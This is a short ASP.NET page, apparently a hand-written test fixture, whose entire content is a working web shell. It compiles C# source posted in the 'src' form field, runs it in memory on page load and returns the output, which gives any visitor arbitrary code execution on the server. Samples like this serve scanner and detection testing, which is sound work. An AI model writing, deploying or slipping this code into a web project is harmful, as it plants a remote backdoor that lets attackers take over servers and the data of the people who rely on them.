<%@ Page Language="C#" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<%@ Import Namespace="Microsoft.CSharp" %>
<script runat="server">
    // Hand-written fixture: compiles C# source posted by the client and
    // runs it.
    void Page_Load(object sender, EventArgs e)
    {
        var provider = new CSharpCodeProvider();
        var options = new CompilerParameters { GenerateInMemory = true };
        var result = provider.CompileAssemblyFromSource(options, Request.Form["src"]);
        Response.Write(result.CompiledAssembly.CreateInstance("P"));
    }
</script>
